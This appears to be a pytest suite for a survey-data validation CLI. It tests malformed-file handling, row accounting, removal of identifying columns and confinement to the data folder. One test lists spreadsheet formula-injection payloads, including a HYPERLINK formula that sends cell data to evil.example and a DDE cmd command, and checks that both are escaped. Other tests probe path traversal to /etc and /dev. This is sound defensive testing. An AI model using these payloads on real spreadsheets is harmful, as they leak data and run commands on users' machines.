"""Malformed input: the exact outcome of `connlab validate` on every file of tests/data/bad/.

The corpus and MANIFEST.csv are committed; `tests/data/bad/make_corpus.py` re-creates them
(a test below checks that it reproduces the committed text files byte for byte). Nothing here
regenerates the corpus: the tests read the committed files.

House rule pinned here: bad input gets a clear error naming file, column, row and value (exit 2
when the file cannot be read, 1 when values do not fit the codebook), never a traceback, and
every row read is either analysed or excluded with its reason. Manifest rows with an `xfail`
reason are known bugs: their expected_* columns hold the behaviour we want.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from analysis.data.dataset import load_dataset
from analysis.data.ledger import EXCLUSION_REASONS, flow
from analysis.data.readers import read_table
from analysis.data.validate import ValidationError
from analysis.runner.cli import main

BAD = Path(__file__).resolve().parent / "data" / "bad"
MANIFEST_COLUMNS = ["file", "codebook", "strict", "kind", "expected_exit", "expected_message", "xfail"]
LIBRARY_MADE = (".sav", ".dta", ".xlsx")  # written by pyreadstat/openpyxl; all else is plain bytes
with open(BAD / "MANIFEST.csv", encoding="utf-8", newline="") as _fh:
    MANIFEST = list(csv.DictReader(_fh))


def _id(row: dict) -> str:
    return f"{row['file']}|{row['codebook'] or '-'}|{'strict' if row['strict'] == '1' else 'lenient'}"


def _params(rows, *, xfail_marks: bool = True):
    out = []
    for row in rows:
        marks = [pytest.mark.xfail(strict=True, reason=row["xfail"])] if (row["xfail"] and xfail_marks) else []
        out.append(pytest.param(row, marks=marks, id=_id(row)))
    return out


def _argv(row: dict, *extra: str) -> list[str]:
    argv = ["validate", "--data", str(BAD / row["file"])]
    if row["codebook"]:
        argv += ["--codebook", str(BAD / row["codebook"])]
    if row["strict"] == "1":
        argv.append("--strict")
    return argv + list(extra)


def _run(argv, capsys) -> tuple[int, str]:
    code = main(argv)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def _row(file: str, codebook: str = "", strict: str = "0") -> dict:
    return next(r for r in MANIFEST if (r["file"], r["codebook"], r["strict"]) == (file, codebook, strict))


# ------------------------------------------------------------------------------- the manifest
def test_manifest_is_well_formed():
    with open(BAD / "MANIFEST.csv", encoding="utf-8", newline="") as fh:
        assert next(csv.reader(fh)) == MANIFEST_COLUMNS
    assert len({_id(r) for r in MANIFEST}) == len(MANIFEST), "duplicate manifest rows"
    for row in MANIFEST:
        assert (BAD / row["file"]).is_file(), row["file"]
        assert not row["codebook"] or (BAD / row["codebook"]).is_file(), row["codebook"]
        assert row["strict"] in ("0", "1") and row["expected_exit"] in ("0", "1", "2") and row["kind"]
        re.compile(row["expected_message"])
    inputs = {r["file"] for r in MANIFEST} | {r["codebook"] for r in MANIFEST if r["codebook"]}
    on_disk = {p.name for p in BAD.iterdir() if p.is_file()} - {"make_corpus.py", "MANIFEST.csv"}
    assert on_disk == inputs, "every corpus file is used by a manifest row, and only corpus files are present"
    data_files = {r["file"] for r in MANIFEST if not r["file"].endswith(".yaml")}
    assert len(data_files) >= 40
    sizes = {p.name: p.stat().st_size for p in BAD.iterdir() if p.is_file() and p.name != "make_corpus.py"}
    assert max(sizes, key=sizes.get) == "free_text_200k.csv" and sizes["free_text_200k.csv"] <= 200 * 1024


def test_no_codebook_is_picked_up_by_accident():
    """The CLI looks for codebook.yaml / <stem>.codebook.yaml beside a data file."""
    names = {p.name for p in BAD.iterdir()}
    assert not names & {"codebook.yaml", "codebook.yml"}
    assert not [n for n in names if n.endswith(".codebook.yaml")]


# ----------------------------------------------------------------- one run per manifest row
@pytest.mark.parametrize("row", _params(MANIFEST))
def test_validate_outcome(row, capsys):
    code, text = _run(_argv(row), capsys)
    assert "Traceback" not in text
    assert code == int(row["expected_exit"]), text
    assert re.search(row["expected_message"], text), f"{row['expected_message']!r} not found in:\n{text}"
    if code == 2:
        assert "connlab validate: error: " in text
    else:
        assert "Row ledger (every row read is analysed or excluded):" in text


# --------------------------------------------------------- ledger: read = analysed + excluded
LOADS = [r for r in MANIFEST if r["expected_exit"] != "2"]


def _records_in_file(path: Path, fmt) -> int:
    """Data records in a file, counted independently of analysis.data.readers (blank records skipped)."""
    if fmt.kind in ("csv", "qualtrics"):
        text = path.read_bytes().decode(fmt.encoding)
        limit = csv.field_size_limit(1 << 30)
        try:
            records = [r for r in csv.reader(io.StringIO(text, newline=""), delimiter=fmt.sep)
                       if any(c.strip() for c in r)]  # fmt: skip
        finally:
            csv.field_size_limit(limit)
        hint = bool(records) and records[0][0].lower().startswith("sep=")  # Excel's hint line
        return len(records) - fmt.header_rows - bool(hint)
    if fmt.kind == "xlsx":
        from openpyxl import load_workbook

        wb = load_workbook(io.BytesIO(path.read_bytes()), read_only=True)  # any file name (xlsx_named.csv)
        ws = wb.worksheets[fmt.sheet] if isinstance(fmt.sheet, int) else wb[fmt.sheet]
        rows = [r for r in ws.iter_rows(values_only=True) if any(v is not None for v in r)]
        wb.close()
        return len(rows) - 1
    import pyreadstat

    reader = pyreadstat.read_sav if fmt.kind == "sav" else pyreadstat.read_dta
    return reader(str(path), metadataonly=True)[1].number_rows


@pytest.mark.parametrize("row", _params(LOADS, xfail_marks=False))
def test_ledger_accounts_for_every_row(row):
    strict = row["strict"] == "1"
    codebook = BAD / row["codebook"] if row["codebook"] else None
    try:
        ds = load_dataset(BAD / row["file"], codebook=codebook, strict=strict)
    except ValidationError as exc:  # strict: loading fails, the ledger comes with the error
        assert strict
        ledger, tables, files = exc.ledger, None, None
        assert set(exc.problems["row"]) <= set(ledger.loc[ledger["reason"] == "invalid_value", "row"])
    except Exception as exc:  # a known bug stops loading (see the manifest's xfail column)
        if row["xfail"]:
            pytest.xfail(f"{row['xfail']} ({type(exc).__name__})")
        raise
    else:
        ledger, tables, files = ds.ledger, ds.tables, {f.table: f.rows for f in ds.files}
    assert len(ledger) and set(ledger["status"]) <= {"analysed", "excluded"}
    for table, part in ledger.groupby("table", sort=False):
        n = len(part)
        assert part["row"].tolist() == list(range(1, n + 1)), "each row read appears once in the ledger"
        excluded = part[part["status"] == "excluded"]
        analysed = part[part["status"] == "analysed"]
        assert excluded["reason"].isin(list(EXCLUSION_REASONS)).all() and analysed["reason"].isna().all()
        steps = flow(ledger)
        steps = steps[steps["table"] == table]
        assert steps.iloc[0]["step"] == "rows read" and steps.iloc[0]["remaining"] == n
        assert steps.iloc[-1]["step"] == "analysed" and steps.iloc[-1]["remaining"] == len(analysed)
        assert n == len(analysed) + steps["excluded"].sum()
        if tables is not None:
            assert files[table] == n, "rows read by the reader = rows in the ledger"
            assert tables[table].index.tolist() == analysed["row"].tolist()
            path = Path(next(f.path for f in ds.files if f.table == table))
            assert n == _records_in_file(path, ds.formats[table]), "a data record of the file is not in the ledger"


# ------------------------------------------------------------------------------ targeted tests
def test_sav_value_labels_and_user_missing_are_honoured():
    raw = read_table(BAD / "valid_labels_missing.sav")
    assert raw.format.kind == "sav"
    assert raw.labels == {"person_id": "Respondent id", "gender": "Gender", "sat": "Relationship satisfaction"}
    assert raw.value_labels["gender"] == {1.0: "man", 2.0: "woman", 3.0: "other", -99.0: "refused"}
    assert raw.value_labels["sat"][98.0] == "don't know"
    assert raw.user_missing == {"gender": [-99.0], "sat": [{"range": [98.0, 99.0]}]}
    # the codebook lists neither -99 nor 98/99: the file's own missing values make them missing
    ds = load_dataset(BAD / "valid_labels_missing.sav", codebook=BAD / "sav.cb.yaml")
    assert ds.problems.empty
    table = ds.table()
    assert table["gender"].tolist() == [1, 2, pd.NA, 3, 2, 1]
    assert table["sat"].tolist() == [5, 7, pd.NA, 3, pd.NA, 6]
    # without declared user-missing values the same -99 is a problem (manifest: ..._strict.sav)
    strict_raw = read_table(BAD / "valid_labels_missing_strict.sav")
    assert strict_raw.user_missing == {} and -99.0 in strict_raw.frame["gender"].tolist()


def test_sav_labels_reach_the_draft_codebook():
    from analysis.data.codebook_draft import draft_codebook

    gender = draft_codebook(BAD / "valid_labels_missing.sav")["tables"]["data"]["variables"]["gender"]
    assert gender["label"] == "Gender" and gender["missing_codes"] == [-99.0]
    assert gender["value_labels"] == {1: "man", 2: "woman", 3: "other", -99: "refused"}


def test_draft_codebook_of_a_sav_validates_its_own_file(tmp_path, capsys):
    # a partly labelled item (only the scale ends labelled) stays numeric; its range leaves out
    # the SPSS missing range 98-99
    assert main(["codebook", "--data", str(BAD / "valid_labels_missing.sav"), "--out", str(tmp_path / "cb.yaml")]) == 0
    code, text = _run(["validate", "--data", str(BAD / "valid_labels_missing.sav"), "--codebook",
                       str(tmp_path / "cb.yaml")], capsys)  # fmt: skip
    assert code == 0, text


def test_dta_labels_are_read():
    raw = read_table(BAD / "valid.dta")
    assert raw.format.kind == "dta" and raw.labels["age"] == "Age in years"
    assert raw.value_labels["group"] == {1: "control", 2: "treatment"}


@pytest.mark.parametrize(("file", "codebook"), [
    ("utf8_bom.csv", "survey.cb.yaml"), ("utf16_excel.txt", "survey.cb.yaml"),
    ("utf16le_no_bom.txt", "survey.cb.yaml"), ("crlf.csv", "survey.cb.yaml"),
    ("named_sheet.xlsx", "named_sheet.cb.yaml"), ("xlsx_named.csv", "named_sheet.cb.yaml"),
])  # fmt: skip
def test_encoding_and_format_variants_give_the_same_table(file, codebook):
    reference = load_dataset(BAD / "survey_ok.csv", codebook=BAD / "survey.cb.yaml").table()
    variant = load_dataset(BAD / file, codebook=BAD / codebook).table()
    pd.testing.assert_frame_equal(variant, reference)


def test_cp1252_and_decimal_comma_values():
    ds = load_dataset(BAD / "cp1252_accents.csv", codebook=BAD / "accents.cb.yaml")
    assert ds.formats["survey"].encoding == "cp1252"
    assert list(ds.table().columns) == ["person_id", "âge", "ville"]
    assert ds.table()["ville"].astype(str).tolist() == ["Zürich", "Besançon", "São Paulo", "Málaga"]
    ds = load_dataset(BAD / "semicolon_decimal_comma.csv", codebook=BAD / "decimal.cb.yaml")
    assert (ds.formats["survey"].sep, ds.formats["survey"].decimal) == (";", ",")
    assert ds.table()["score"].tolist() == [3.5, 4.25, 6.0]
    assert ds.table()["weight"].tolist() == [0.82, 1.1, 0.95]


def test_extra_file_column_is_kept_as_text():
    """Pinned: a column the codebook does not list is neither reported nor dropped."""
    ds = load_dataset(BAD / "extra_column.csv", codebook=BAD / "survey.cb.yaml")
    assert ds.problems.empty and ds.table()["mood_note"].tolist() == list("abcdef")


@pytest.mark.parametrize(("file", "codebook", "row", "person", "reason"), [
    ("duplicate_ids.csv", "survey.cb.yaml", 4, "3", "duplicate_id"),
    ("attention_failed.csv", "survey.cb.yaml", 2, "2", "attention_check"),
    ("speeder.csv", "survey.cb.yaml", 4, "4", "speeder"),
    ("straight_liner.csv", "survey.cb.yaml", 5, "5", "straight_lining"),
    ("too_many_missing.csv", "survey.cb.yaml", 6, "6", "too_many_missing"),
    ("incomplete_dyad.csv", "survey_dyads.cb.yaml", 5, "5", "incomplete_dyad"),
    ("diary_duplicate_day.csv", "diary.cb.yaml", 3, "1", "duplicate_id"),
    ("likert_text.csv", "survey.cb.yaml", 2, "2", "invalid_value"),
])  # fmt: skip
def test_the_right_row_is_excluded_for_the_right_reason(file, codebook, row, person, reason):
    strict = reason == "invalid_value"
    try:
        ledger = load_dataset(BAD / file, codebook=BAD / codebook, strict=strict).ledger
    except ValidationError as exc:
        ledger = exc.ledger
    excluded = ledger[ledger["status"] == "excluded"]
    assert excluded[["row", "id", "reason"]].values.tolist() == [[row, person, reason]]
    assert excluded["line"].tolist() == [row + 1]


def _output_texts(folder: Path) -> dict[str, str]:
    return {p.name: p.read_text(encoding="utf-8") for p in folder.iterdir() if p.is_file()}


def test_qualtrics_pii_columns_never_reach_written_files(tmp_path, capsys):
    out = tmp_path / "processed"
    code, text = _run(["validate", "--data", str(BAD / "qualtrics_pii.csv"), "--write", str(out)], capsys)
    assert code == 0, text
    ds = load_dataset(BAD / "qualtrics_pii.csv")
    pii = ["IPAddress", "RecipientLastName", "RecipientFirstName", "RecipientEmail", "ExternalReference",
           "LocationLatitude", "LocationLongitude"]  # fmt: skip
    assert ds.removed_columns["column"].tolist() == pii
    assert not set(pii) & set(ds.table().columns)
    texts = _output_texts(out)
    assert set(texts) == {"data.csv", "codebook.yaml", "ledger.csv", "problems.csv"}
    assert pd.read_csv(out / "data.csv").columns.tolist() == [
        "StartDate", "EndDate", "Status", "Progress", "Duration (in seconds)", "Finished", "RecordedDate",
        "ResponseId", "DistributionChannel", "UserLanguage", "Q1", "Q2"]  # fmt: skip
    secrets = pii + ["203.0.113.7", "198.51.100.23", "anna.muster@example.org", "ben.beispiel@example.org",
                     "Muster", "Beispiel", "47.3769", "8.5417", "46.2044", "6.1432", "Recipient",
                     "Location"]  # fmt: skip
    for name, content in texts.items():
        for secret in secrets:
            assert secret not in content, f"{secret!r} written to {name}"


def test_free_text_cell_of_200kb_is_read_and_dropped(tmp_path, capsys):
    out = tmp_path / "processed"
    argv = _argv(_row("free_text_200k.csv", "free_text_sep.cb.yaml"), "--write", str(out))
    code, text = _run(argv, capsys)
    assert code == 0, text
    assert len(read_table(BAD / "free_text_200k.csv", format={"sep": ","}).frame.iloc[0]["comments"]) > 190_000
    for name, content in _output_texts(out).items():
        assert "comments" not in content and "friend's wedding" not in content, name


def test_formula_cells_are_neutralised_in_written_files(tmp_path, capsys):
    out = tmp_path / "processed"
    code, text = _run(_argv(_row("formula_injection.csv", "formula.cb.yaml"), "--write", str(out)), capsys)
    assert code == 1, text  # '=1+1' in the integer column is a problem (set to missing)
    with open(out / "survey.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["note"] for r in rows] == [
        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click me\")", "'+1", "'-2+3", "'@SUM(A1:A9)",
        "'=cmd|' /C calc'!A0", "plain text"]  # fmt: skip
    assert [r["person_id"] for r in rows] == ["1", "2", "3", "4", "5", "6"]
    assert [r["score"] for r in rows] == ["4", "5", "6", "", "3", "2"]
    with open(out / "problems.csv", encoding="utf-8", newline="") as fh:
        problems = list(csv.DictReader(fh))
    assert [(p["column"], p["row"], p["value"]) for p in problems] == [("score", "4", "'=1+1")]
    for name, content in _output_texts(out).items():
        for line in content.splitlines():
            for cell in next(csv.reader([line])):
                assert not cell.startswith(("=", "+", "@")), f"{name}: {cell!r}"
    # in memory the values stay as they were typed
    ds = load_dataset(BAD / "formula_injection.csv", codebook=BAD / "formula.cb.yaml")
    assert ds.table()["note"].iloc[0].startswith("=HYPERLINK(")


def _csv_records(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_a_bare_cr_in_a_quoted_cell_stays_in_its_record_when_written(tmp_path, capsys):
    out = tmp_path / "processed"
    code, text = _run(_argv(_row("quoted_bare_cr.csv", "formula.cb.yaml"), "--write", str(out)), capsys)
    assert code == 1, text  # score 9 is outside 1..7
    records = _csv_records(out / "survey.csv")
    assert len(records) == 1 + 4, "header + the 4 records read; a bare CR must not split a record"
    assert [r[1] for r in records[1:]] == ["first line\rsecond line", "plain", "a\rb\rc", "ok"]
    back = load_dataset(out)  # the processed folder is a data set: read back, it is the table that was written
    pd.testing.assert_frame_equal(back.table(), load_dataset(BAD / "quoted_bare_cr.csv",
                                                             codebook=BAD / "formula.cb.yaml").table())  # fmt: skip
    assert len(back.ledger) == 4


def test_a_formula_in_a_header_cell_is_neutralised_in_written_files(tmp_path, capsys):
    out = tmp_path / "processed"
    code, text = _run(_argv(_row("formula_header.csv"), "--write", str(out)), capsys)
    assert code == 0, text
    records = _csv_records(out / "data.csv")
    assert records[0] == ["person_id", "'=HYPERLINK(\"http://x\",\"y\")", "score"]
    assert len(records) == 1 + 3
    for name in ("data.csv", "ledger.csv", "problems.csv"):
        for record in _csv_records(out / name):
            assert not [c for c in record if c.startswith(("=", "+", "@"))], f"{name}: {record}"
    # the written codebook says the cells were escaped: reading the folder back gives the names as typed
    assert list(load_dataset(out).table().columns) == ["person_id", '=HYPERLINK("http://x","y")', "score"]


PII_CONTENT = {  # column: its values in pii_content.csv
    "ip_addr": ["192.168.1.17", "10.0.0.5", "203.0.113.9", "198.51.100.4", "172.16.0.33", "192.0.2.200"],
    "contact": ["anna.muster@example.org", "ben.beispiel@example.org", "carla.rossi@example.net",
                "david.meier@example.de", "eva.keller@example.com", "felix.keller@example.com"],
    "PartnerName": ["Ben", "Anna", "David", "Carla", "Felix", "Eva"],
    "Q12_TEXT": ["Anna Muster", "Ben Beispiel", "Carla Rossi", "David Meier", "Eva Keller", "Felix Keller"],
    "notes": ["+41 79 123 45 67", "079 555 12 34", "+49 30 1234567", "044 123 45 67", "+41 44 987 65 43",
              "076 321 54 76", "Call Ben", "Anna says hi", "David Meier wants", "Eva Keller:"],
}  # fmt: skip


@pytest.mark.parametrize("codebook", ["pii_content.cb.yaml", ""], ids=["roles-demographic-other", "no-codebook"])
def test_identifying_columns_found_by_content_never_reach_written_files(codebook, tmp_path, capsys):
    out = tmp_path / "processed"
    code, text = _run(_argv(_row("pii_content.csv", codebook), "--write", str(out)), capsys)
    assert code == 0, text
    for column in PII_CONTENT:
        assert f"removed identifying column '{column}'" in text
    records = _csv_records(out / ("survey.csv" if codebook else "data.csv"))
    assert records[0] == ["person_id", "age", "score"] and len(records) == 1 + 6
    raw = read_table(BAD / "pii_content.csv").frame
    assert [raw[c].tolist() for c in PII_CONTENT if c != "notes"] == [v for c, v in PII_CONTENT.items() if c != "notes"]
    texts = _output_texts(out)
    assert set(texts) == {"survey.csv" if codebook else "data.csv", "codebook.yaml", "ledger.csv", "problems.csv"}
    for name, content in texts.items():
        for secret in [*PII_CONTENT, *(v for values in PII_CONTENT.values() for v in values), "@example"]:
            assert secret not in content, f"{secret!r} written to {name}"


_OPENED: list[str] = []  # files opened while _AUDIT["on"] (an audit hook sees every open, whatever the API)
_AUDIT = {"on": False, "installed": False}


def _audit(event: str, args: tuple) -> None:
    if _AUDIT["on"] and event == "open" and isinstance(args[0], str | bytes | os.PathLike):
        _OPENED.append(os.fsdecode(args[0]))


@pytest.mark.parametrize("codebook", ["file_passwd.cb.yaml", "file_absolute.cb.yaml", "file_dev_zero.cb.yaml"])
def test_a_file_outside_the_data_folder_is_neither_read_nor_written(codebook, tmp_path, capsys, monkeypatch):
    if not _AUDIT["installed"]:  # an audit hook cannot be removed: one for the session, off between tests
        sys.addaudithook(_audit)
        _AUDIT["installed"] = True
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "processed"
    _OPENED.clear()
    _AUDIT["on"] = True
    start = time.perf_counter()
    try:
        code, text = _run(["validate", "--data", str(BAD / codebook), "--write", str(out)], capsys)
    finally:
        _AUDIT["on"] = False
    assert time.perf_counter() - start < 5  # /dev/zero is never read (it would never end)
    assert code == 2 and "is outside the data folder" in text and text.count("\n") == 1, text
    assert str(BAD / codebook) in _OPENED, "the audit hook sees the files opened"
    assert not [p for p in _OPENED if p.startswith(("/etc/", "/dev/"))], _OPENED
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_ids_above_2_53_keep_every_digit(tmp_path, capsys):
    ids = [2**53 + 1, 2**53]  # the same float64: ids must not go through float
    ds = load_dataset(BAD / "ids_above_2p53.csv", codebook=BAD / "big_numbers.cb.yaml")
    assert ds.table()["person_id"].tolist() == ids and ds.ledger["status"].tolist() == ["analysed"] * 2
    assert ds.ledger["id"].tolist() == [str(i) for i in ids]
    code, text = _run(_argv(_row("ids_above_2p53.csv", "big_numbers.cb.yaml"), "--write", str(tmp_path)), capsys)
    assert code == 0, text
    assert [r[0] for r in _csv_records(tmp_path / "survey.csv")[1:]] == [str(i) for i in ids]


def test_codebook_pointing_at_a_missing_file_names_it(capsys):
    code, text = _run(["validate", "--data", str(BAD / "missing_data_file.cb.yaml")], capsys)
    assert code == 2 and str(BAD / "no_such_export.csv") in text
    spec = yaml.safe_load((BAD / "missing_data_file.cb.yaml").read_text(encoding="utf-8"))
    assert spec["tables"]["survey"]["file"] == "no_such_export.csv"


# ------------------------------------------------------------------------ corpus reproducible
def test_make_corpus_reproduces_the_committed_files(tmp_path):
    result = subprocess.run([sys.executable, str(BAD / "make_corpus.py"), str(tmp_path)],
                            capture_output=True, text=True, timeout=300, check=False)  # fmt: skip
    assert result.returncode == 0, result.stderr
    made = {p.name for p in tmp_path.iterdir()}
    committed = {p.name for p in BAD.iterdir() if p.is_file()} - {"make_corpus.py"}
    assert made == committed
    for name in sorted(made):
        if name.endswith(LIBRARY_MADE) or (BAD / name).read_bytes()[:4] == b"PK\x03\x04":
            continue  # made by pyreadstat/openpyxl: same name, bytes may differ across library versions
        assert (tmp_path / name).read_bytes() == (BAD / name).read_bytes(), f"{name} differs from its committed copy"
